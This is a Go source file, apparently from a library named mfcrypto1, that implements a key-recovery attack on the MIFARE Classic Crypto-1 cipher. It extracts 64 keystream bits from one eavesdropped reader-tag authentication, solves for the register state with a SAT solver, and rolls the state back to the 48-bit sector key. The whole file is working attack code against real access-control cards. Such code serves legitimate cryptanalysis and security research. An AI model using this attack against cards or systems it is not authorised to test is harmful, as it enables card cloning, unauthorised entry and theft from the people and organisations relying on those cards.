// Package attack recovers a MIFARE Classic key from one eavesdropped
// authentication.
//
// The tag nonce is sent in the clear and the PRNG is public, so the reader
// and tag answers give away 64 keystream bits. Those bits are handed to a SAT
// solver as assumptions on a relation that ties them to the register state
// right after the reader nonce was fed. The state found is then clocked back
// through the reader nonce and uid^nt to the key.
package attack

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/barnettlynn/mfcrypto1/pkg/cnf"
	"github.com/barnettlynn/mfcrypto1/pkg/crypto1"
)

// KeystreamBits is the number of keystream bits one transcript exposes.
const KeystreamBits = 64

// ErrAttackFailed is returned when the relation has no solution for the
// observed keystream.
var ErrAttackFailed = errors.New("attack failed: no state matches the keystream")

// Hint pins register bits of the post-nonce state that are already known.
// Position i of Mask selects position i of Value.
type Hint struct {
	Mask  crypto1.State
	Value crypto1.State
}

// Result is a recovered key with the intermediate values that led to it.
type Result struct {
	Key       uint64
	State     crypto1.State // Register after uid^nt and nr were fed
	Keystream uint64        // Generation order, first bit most significant
	RunID     string
	Elapsed   time.Duration
}

// Option configures an Attacker.
type Option func(*Attacker)

// WithSolver replaces the default gini solver.
func WithSolver(s cnf.Solver) Option {
	return func(a *Attacker) {
		a.solver = s
	}
}

// Attacker holds a relation loaded into a solver. Recover may be called from
// several goroutines; solves are serialised.
type Attacker struct {
	mu     sync.Mutex
	rel    *cnf.Relation
	solver cnf.Solver
}

// New loads rel into a solver once so that it can serve many transcripts.
func New(rel *cnf.Relation, opts ...Option) (*Attacker, error) {
	if rel == nil {
		return nil, errors.New("relation is required")
	}
	if rel.KnownOffset <= crypto1.StateBits {
		return nil, fmt.Errorf("known offset %d overlaps the %d state variables", rel.KnownOffset, crypto1.StateBits)
	}
	if last := rel.KnownOffset + KeystreamBits - 1; last > rel.NumVars {
		return nil, fmt.Errorf("relation has %d variables, keystream needs up to %d", rel.NumVars, last)
	}

	a := &Attacker{rel: rel}
	for _, opt := range opts {
		opt(a)
	}
	if a.solver == nil {
		a.solver = cnf.NewGini(rel.NumVars)
	}

	start := time.Now()
	if err := cnf.Load(a.solver, rel); err != nil {
		return nil, fmt.Errorf("load relation: %w", err)
	}
	slog.Debug("relation loaded",
		"vars", rel.NumVars,
		"clauses", len(rel.Clauses),
		"xor_clauses", len(rel.XorClauses),
		"known_offset", rel.KnownOffset,
		"elapsed", time.Since(start).String())
	return a, nil
}

// Keystream recovers the 64 keystream bits that encrypted ar and at, in
// generation order with the first bit most significant.
func Keystream(t crypto1.Transcript) uint64 {
	ks1 := crypto1.BitReverse32(t.EncAr ^ crypto1.Successor(t.Nt, 64))
	ks2 := crypto1.BitReverse32(t.EncAt ^ crypto1.Successor(t.Nt, 96))
	return uint64(ks1)<<32 | uint64(ks2)
}

// Recover solves for the post-nonce state of t and clocks it back to the
// key. hints add known state bits as extra assumptions.
func (a *Attacker) Recover(ctx context.Context, t crypto1.Transcript, hints ...Hint) (*Result, error) {
	runID := uuid.NewString()
	start := time.Now()

	ks := Keystream(t)
	assumptions := cnf.FromUint(ks, KeystreamBits).Literals(a.rel.KnownOffset)
	for _, h := range hints {
		assumptions = append(assumptions, hintLiterals(h)...)
	}

	slog.Debug("attack started",
		"run", runID,
		"uid", fmt.Sprintf("%08x", t.UID),
		"nt", fmt.Sprintf("%08x", t.Nt),
		"keystream", fmt.Sprintf("%016x", ks),
		"hints", len(hints))

	a.mu.Lock()
	out, err := a.solver.Solve(ctx, assumptions)
	a.mu.Unlock()
	if err != nil {
		return nil, fmt.Errorf("solve: %w", err)
	}
	if !out.Sat {
		slog.Debug("attack unsatisfiable", "run", runID, "elapsed", time.Since(start).String())
		return nil, fmt.Errorf("run %s: %w", runID, ErrAttackFailed)
	}
	if len(out.Model) <= crypto1.StateBits {
		return nil, fmt.Errorf("solver model has %d entries, need %d", len(out.Model), crypto1.StateBits+1)
	}

	state := stateFromModel(out.Model)
	c, err := crypto1.NewFromState(crypto1.Uint(state))
	if err != nil {
		return nil, err
	}
	c.Reverse32(t.EncNr, true)
	c.Reverse32(t.UID^t.Nt, false)

	res := &Result{
		Key:       c.Key(),
		State:     state,
		Keystream: ks,
		RunID:     runID,
		Elapsed:   time.Since(start),
	}
	slog.Debug("attack finished",
		"run", runID,
		"state", state.String(),
		"key", fmt.Sprintf("%012x", res.Key),
		"elapsed", res.Elapsed.String())
	return res, nil
}

// stateFromModel reads variables 1..48, variable j being position 48-j.
func stateFromModel(model []bool) crypto1.State {
	return crypto1.State(cnf.FromModel(model[1 : crypto1.StateBits+1]).Uint())
}

func hintLiterals(h Hint) []int {
	var lits []int
	for i := 0; i < crypto1.StateBits; i++ {
		if h.Mask.Bit(i) == 0 {
			continue
		}
		v := crypto1.StateBits - i
		if h.Value.Bit(i) == 0 {
			v = -v
		}
		lits = append(lits, v)
	}
	return lits
}
